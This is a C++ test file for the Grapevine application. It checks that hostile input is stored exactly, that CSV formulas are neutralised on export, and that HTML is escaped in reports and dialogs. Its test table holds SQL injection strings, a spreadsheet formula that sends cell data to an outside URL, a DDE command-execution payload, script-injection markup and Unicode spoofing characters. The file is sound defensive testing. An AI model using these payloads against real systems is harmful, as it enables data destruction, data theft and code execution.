// SPDX-FileCopyrightText: 2026 The Grapevine developers
// SPDX-License-Identifier: GPL-3.0-or-later

// One table of hostile values, sent through every way text enters and leaves Grapevine: typed
// into an advocate, imported from a CSV, exported to a CSV and imported again, printed in a
// report and shown in the window. Each value must be stored exactly as given, leave in a CSV
// with formulas neutralised (and come back exactly), and be shown as text, never run as
// markup.
#include <gtest/gtest.h>

#include <QApplication>
#include <QBuffer>
#include <QLabel>
#include <QMessageBox>
#include <QSqlQuery>
#include <QTest>
#include <QTimer>

#include "ProgramFixture.h"
#include "csv/CsvReader.h"
#include "domain/Email.h"
#include "export/RecordExport.h"
#include "import/CustomerImport.h"
#include "itemmodels/AdvocateTableModel.h"
#include "report/ReportDocument.h"
#include "report/ReportInput.h"
#include "store/AdvocateStore.h"
#include "widgets/Prompter.h"

using namespace grapevine;

namespace {

struct Hostile
{
    const char* name;
    QString value;
};

std::vector<Hostile> hostileValues()
{
    return {
        {"sql quote", QStringLiteral("Robert'); DROP TABLE advocates;--")},
        {"sql tautology", QStringLiteral("x' OR '1'='1")},
        {"sql comment", QStringLiteral("Anna\"; DELETE FROM referrals; /*")},
        {"formula =", QStringLiteral("=HYPERLINK(\"http://example.com/steal?\"&A1,\"Click\")")},
        {"formula +", QStringLiteral("+SUM(1,2)")},
        {"formula -", QStringLiteral("-2+3+cmd|' /C calc'!A0")},
        {"formula @", QStringLiteral("@SUM(A1:A9)")},
        {"html script", QStringLiteral("<script>alert(1)</script>")},
        {"html image", QStringLiteral("<img src=x onerror=alert(2)>")},
        {"html bold", QStringLiteral("<b>Bo</b> &amp; <i>Co</i>")},
        {"control characters",
            QStringLiteral("a") + QChar(0x01) + QStringLiteral("b") + QChar(0x07) + QStringLiteral("c") + QChar(0x1B)
                + QStringLiteral("[31mred")},
        {"right-to-left override", QString(QChar(0x202E)) + QStringLiteral("fdp.exe")},
        {"zero-width", QStringLiteral("An") + QChar(0x200B) + QStringLiteral("na") + QChar(0xFEFF)},
        {"line breaks", QStringLiteral("line one\nline two\r\nline three")},
        {"quotes and delimiters", QStringLiteral("say \"hi\", then; go|on\ttab")},
        {"beyond the BMP", QStringLiteral("Zoë 😀 𝕏")},
        {"one megabyte", QString(1 << 20, QLatin1Char('x'))},
    };
}

QString csvCell(const QString& value)
{
    return QLatin1Char('"') + QString(value).replace(QLatin1Char('"'), QStringLiteral("\"\"")) + QLatin1Char('"');
}

class HostileValues : public ::testing::Test, protected test::ProgramFixture
{
protected:
    Result<importing::ImportSummary> importCustomers(const QByteArray& bytes)
    {
        QBuffer buffer;
        buffer.setData(bytes);
        buffer.open(QIODevice::ReadOnly);
        importing::CustomerImport importer(db(), clock());
        return importer.run(buffer, QStringLiteral("hostile.csv"), {});
    }

    domain::Advocate byEmail(const QString& email)
    {
        store::AdvocateStore store(db(), clock());
        const auto id = store.findIdByEmail(email);
        EXPECT_TRUE(id && id->has_value()) << email.toStdString();
        if (!id || !id->has_value())
            return {};
        return store.get(**id).value();
    }

    static QString email(size_t i) { return QStringLiteral("hostile%1@example.com").arg(i); }
};

TEST_F(HostileValues, TypedInAreStoredExactly)
{
    const auto values = hostileValues();
    for (size_t i = 0; i < values.size(); ++i) {
        SCOPED_TRACE(values[i].name);
        const QString& v = values[i].value;
        const qint64 id = addAdvocate(v, v, email(i), [&](domain::Advocate& a) {
            a.company = v;
            a.notes = v;
        });
        ASSERT_GT(id, 0);
        const domain::Advocate back = store::AdvocateStore(db(), clock()).get(id).value();
        EXPECT_EQ(back.firstName, v);
        EXPECT_EQ(back.lastName, v);
        EXPECT_EQ(back.company, v);
        EXPECT_EQ(back.notes, v);
    }
    EXPECT_EQ(scalar(QStringLiteral("SELECT count(*) FROM advocates")), static_cast<qint64>(values.size()))
        << "no statement was changed by a value";
}

TEST_F(HostileValues, ImportedAreStoredExactlyExportedNeutralisedAndComeBackTheSame)
{
    const auto values = hostileValues();
    QByteArray csv = "Email,First Name,Last Name,Company,Note\r\n";
    for (size_t i = 0; i < values.size(); ++i) {
        const QString& v = values[i].value;
        csv += QStringList {email(i), csvCell(v), csvCell(v), csvCell(v), csvCell(v)}.join(QLatin1Char(',')).toUtf8()
            + "\r\n";
    }
    const auto imported = importCustomers(csv);
    ASSERT_TRUE(imported) << imported.error().message.toStdString();
    EXPECT_EQ(imported->created, static_cast<qint64>(values.size()));
    EXPECT_EQ(imported->rejected, 0);
    for (size_t i = 0; i < values.size(); ++i) {
        SCOPED_TRACE(values[i].name);
        const domain::Advocate a = byEmail(email(i));
        EXPECT_EQ(a.firstName, values[i].value);
        EXPECT_EQ(a.company, values[i].value);
        EXPECT_EQ(a.notes, values[i].value);
    }

    // Out to a CSV: a spreadsheet must not run any of it.
    const QString path = database().dir() + QStringLiteral("/advocates.csv");
    const auto written = exporting::exportRecords(db(), exporting::RecordKind::Advocates, path, {});
    ASSERT_TRUE(written) << written.error().message.toStdString();
    QFile file(path);
    ASSERT_TRUE(file.open(QIODevice::ReadOnly));
    csv::CsvReader reader(file, {});
    ASSERT_TRUE(reader.open());
    const int firstName = static_cast<int>(reader.header().indexOf(QStringLiteral("First Name")));
    const int emailColumn = static_cast<int>(reader.header().indexOf(QStringLiteral("Email")));
    ASSERT_GE(firstName, 0);
    csv::CsvRow row;
    int rows = 0;
    while (reader.next(row)) {
        ++rows;
        const QString cell = row.fields.at(firstName);
        const size_t i = row.fields.at(emailColumn).mid(7).section(QLatin1Char('@'), 0, 0).toULongLong();
        SCOPED_TRACE(values.at(i).name);
        EXPECT_TRUE(row.problems.empty());
        const QString& v = values.at(i).value;
        const bool formula = QStringLiteral("=+-@").contains(v.at(0));
        EXPECT_EQ(cell, formula ? QLatin1Char('\'') + v : v);
    }
    EXPECT_EQ(rows, static_cast<int>(values.size()));

    // And back in: the neutralising apostrophe goes, nothing else changes.
    file.close();
    ASSERT_TRUE(file.open(QIODevice::ReadOnly));
    const auto again = importCustomers(file.readAll());
    ASSERT_TRUE(again) << again.error().message.toStdString();
    EXPECT_EQ(again->created, 0);
    EXPECT_EQ(again->updated, 0) << "the exported file imports again without a change";
    for (size_t i = 0; i < values.size(); ++i) {
        SCOPED_TRACE(values[i].name);
        EXPECT_EQ(byEmail(email(i)).firstName, values[i].value);
    }
}

TEST_F(HostileValues, InvisibleAndReversingCharactersInAnEmailAreTheSamePerson)
{
    const QString plain = QStringLiteral("anna@example.com");
    addAdvocate(QStringLiteral("Anna"), QString(), plain);
    QByteArray csv = "Email,First Name\r\n";
    for (const QString& spoof : QStringList {QStringLiteral("an") + QChar(0x200B) + QStringLiteral("na@example.com"),
             QString(QChar(0xFEFF)) + QStringLiteral("ANNA@example.com"),
             QStringLiteral("anna@exa") + QChar(0x202E) + QStringLiteral("mple.com"),
             QStringLiteral("anna@example.com") + QChar(0x2060)})
        csv += spoof.toUtf8() + ",Anna\r\n";
    const auto imported = importCustomers(csv);
    ASSERT_TRUE(imported) << imported.error().message.toStdString();
    EXPECT_EQ(imported->created, 0);
    EXPECT_EQ(scalar(QStringLiteral("SELECT count(*) FROM advocates")), 1)
        << "one person, however the email is dressed";
}

TEST_F(HostileValues, InvalidUtf8IsReportedWithItsRowAndTheOtherRowsImported)
{
    QByteArray csv = "Email,First Name\r\nok1@example.com,Ann\r\nbad@example.com,B\xff\xfe"
                     "d\r\nok2@example.com,Cy\r\n";
    importing::ImportSettings settings;
    settings.encoding = QStringLiteral("UTF-8");
    QBuffer buffer(&csv);
    buffer.open(QIODevice::ReadOnly);
    importing::CustomerImport importer(db(), clock());
    const auto imported = importer.run(buffer, QStringLiteral("bad-bytes.csv"), settings);
    ASSERT_TRUE(imported) << imported.error().message.toStdString();
    EXPECT_EQ(imported->created, 2);
    EXPECT_EQ(imported->rejected, 1);
    ASSERT_FALSE(imported->errors.empty());
    EXPECT_EQ(imported->errors.front().row, 3);
    EXPECT_EQ(scalar(QStringLiteral("SELECT count(*) FROM advocates WHERE email = 'bad@example.com'")), 0)
        << "never stored with the bad bytes dropped or replaced";
}

TEST_F(HostileValues, ReportsPrintThemAsText)
{
    const auto values = hostileValues();
    for (size_t i = 0; i < values.size(); ++i) {
        if (values[i].value.size() > 1000)
            continue; // a report shows names shortened anyway
        SCOPED_TRACE(values[i].name);
        const QString& v = values[i].value;
        const qint64 advocate = addAdvocate(v, QString(), email(i));
        const qint64 campaign = addCampaign([&](domain::Campaign& c) {
            c.name = v;
            c.disclosureText = v;
        });
        record(campaign, advocate, v, QStringLiteral("friend%1@example.com").arg(i));
    }
    auto input = report::ReportInput::read(db(), {}, clock().nowUtc().addDays(1));
    ASSERT_TRUE(input) << input.error().message.toStdString();
    const QString html = report::ReportDocument::html(*input, report::ReportDocument::Images::Embedded);
    EXPECT_FALSE(html.contains(QLatin1String("<script")));
    EXPECT_FALSE(html.contains(QLatin1String("<img src=x")));
    EXPECT_FALSE(html.contains(QLatin1String("<b>Bo</b>")));
    EXPECT_TRUE(html.contains(QLatin1String("&lt;script&gt;alert(1)&lt;/script&gt;")));
    EXPECT_TRUE(html.contains(QLatin1String("&lt;b&gt;Bo&lt;/b&gt; &amp;amp; &lt;i&gt;Co&lt;/i&gt;")));
    const QString printed = report::ReportDocument::textDocument(*input)->toPlainText();
    EXPECT_TRUE(printed.contains(QLatin1String("<script>alert(1)</script>")));
    EXPECT_TRUE(printed.contains(QLatin1String("Robert'); DROP TABLE advocates;--")));
}

TEST_F(HostileValues, TheWindowShowsThemAsText)
{
    const auto values = hostileValues();
    for (size_t i = 0; i < values.size(); ++i)
        addAdvocate(values[i].value, QString(), email(i));
    itemmodels::AdvocateTableModel model;
    model.setDatabase(&database().database(), QStringLiteral("EUR"));
    ASSERT_TRUE(QTest::qWaitFor([&] { return !model.isLoading(); }, 20000));
    ASSERT_EQ(model.rowCount(), static_cast<int>(values.size()));
    QStringList shown;
    for (int row = 0; row < model.rowCount(); ++row) {
        if (!model.isRowLoaded(row)) {
            model.idAt(row);
            ASSERT_TRUE(QTest::qWaitFor([&] { return model.isRowLoaded(row); }, 20000));
        }
        shown << model.data(model.index(row, 0)).toString();
    }
    for (const Hostile& h : values) {
        if (h.value.size() > 1000)
            continue;
        EXPECT_TRUE(std::any_of(shown.begin(), shown.end(), [&](const QString& s) { return s.contains(h.value); }))
            << h.name;
    }

    // A message naming one (a delete confirmation, an error) shows the characters, not markup.
    ui::MessageBoxPrompter prompter;
    Qt::TextFormat format = Qt::AutoText;
    QString text;
    QTimer::singleShot(0, [&] {
        auto* box = qobject_cast<QMessageBox*>(QApplication::activeModalWidget());
        ASSERT_NE(box, nullptr);
        format = box->textFormat();
        text = box->text();
        box->reject();
    });
    prompter.confirm(
        nullptr, QStringLiteral("Delete"), QStringLiteral("Delete “<b>Bo</b> <img src=x>”?"), QStringLiteral("Delete"));
    EXPECT_EQ(format, Qt::PlainText);
    EXPECT_EQ(text, QStringLiteral("Delete “<b>Bo</b> <img src=x>”?"));
}

} // namespace
